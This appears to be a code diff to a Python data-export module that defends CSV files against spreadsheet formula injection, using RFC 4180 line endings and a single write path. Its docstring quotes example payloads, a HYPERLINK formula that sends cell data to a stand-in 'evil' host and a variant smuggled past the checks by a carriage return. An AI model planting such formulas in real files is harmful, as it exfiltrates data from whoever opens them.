@@ -5,8 +5,13 @@ through :func:`write_csv`) goes through :func:`safe_csv_frame`: a text cell a sp
 run as a formula (a job named ``=HYPERLINK("http://evil/?"&A1,"open")``) starts with a single
 quote instead (OWASP's CSV injection rule: cells beginning with ``=``, ``+``, ``-``, ``@``, a tab
 or a carriage return). Numbers are left alone: numeric columns are never touched, and a text
-cell that is just a number (``-3``, ``-1,234.50``, ``+5%``) is not a formula either. Every other
-cell, and so the file, is byte-for-byte what ``DataFrame.to_csv`` writes.
+cell that is just a number (``-3``, ``-1,234.50``, ``+5%``) is not a formula either.
+
+Rows end with ``\r\n`` as RFC 4180 says (:data:`LINE_END`), which also makes the csv module
+quote every cell holding a carriage return or a line feed: written with ``\n`` only, a cell
+``"deploy \r=HYPERLINK(...)"`` went out unquoted, so every CSV reader started a new row at the
+``\r`` whose first cell was a formula no rule had seen. Every other cell, and so the file, is
+byte-for-byte what ``DataFrame.to_csv(index=False, lineterminator="\r\n")`` writes.
 
 The HTML embeds plotly.js (``include_plotlyjs=True``, about 4.7 MB), so the file opens offline
 and years later without a CDN; the pages therefore build it lazily, only when clicked. PNGs come
@@ -25,6 +30,7 @@ from pandas.api import types
 
 __all__ = [
     "FORMULA_START",
+    "LINE_END",
     "csv_bytes",
     "export_name",
     "figure_html",
@@ -35,6 +41,7 @@ __all__ = [
 ]
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as a formula
+LINE_END = "\r\n"  # RFC 4180; the csv module then quotes any cell holding \r or \n
 _NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?")
 
 _UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")
@@ -80,16 +87,21 @@ def safe_csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
 
 
 def csv_bytes(frame: pd.DataFrame) -> bytes:
-    """The table as UTF-8 CSV without the index (times stay ISO-8601 with their offset), with
-    formula-looking text cells defused (:func:`safe_csv_frame`)."""
-    return safe_csv_frame(frame).to_csv(index=False).encode("utf-8")
+    """The table as UTF-8 CSV without the index (times stay ISO-8601 with their offset), rows
+    ending with ``\r\n`` and formula-looking text cells defused (:func:`safe_csv_frame`)."""
+    return _csv_text(frame).encode("utf-8")
 
 
 def write_csv(frame: pd.DataFrame, path: Path | str) -> Path:
-    """Write ``frame`` to ``path`` as ``DataFrame.to_csv(path, index=False)`` does, with
-    formula-looking text cells defused (:func:`safe_csv_frame`); returns the path."""
-    safe_csv_frame(frame).to_csv(path, index=False)
+    """Write ``frame`` to ``path`` as :func:`csv_bytes` makes it (UTF-8, no index, ``\r\n``,
+    formula-looking text cells defused); returns the path."""
+    Path(path).write_bytes(csv_bytes(frame))
     return Path(path)
+
+
+def _csv_text(frame: pd.DataFrame) -> str:
+    """The one place a CSV is written: every export goes through here."""
+    return safe_csv_frame(frame).to_csv(index=False, lineterminator=LINE_END)
 
 
 def figure_html(fig: go.Figure, title: str | None = None) -> bytes:
